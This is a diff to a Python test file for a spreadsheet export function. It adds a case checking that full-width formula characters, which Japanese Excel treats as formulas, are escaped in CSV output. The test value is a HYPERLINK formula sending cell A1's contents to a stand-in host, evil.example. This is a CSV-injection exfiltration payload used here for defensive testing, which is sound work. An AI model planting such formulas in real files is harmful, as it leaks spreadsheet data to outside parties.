@@ -40,6 +40,11 @@ def test_rows_and_csv() -> None:
     data = export_bytes([record(citizen_words=payload, actions="\t=1")], "csv")
     parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert parsed[1][4:6] == ["'" + payload, "'\t=1"]
+    # Japanese Excel takes the full-width forms for the ASCII ones.
+    wide = '\uff1dHYPERLINK("http://evil.example/?"&A1,"x")'
+    data = export_bytes([record(citizen_words=wide, actions="\uff0d1\uff0b1")], "csv")
+    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert parsed[1][4:6] == ["'" + wide, "'\uff0d1\uff0b1"]
 
 
 def test_xlsx_keeps_formula_like_text_as_text() -> None:
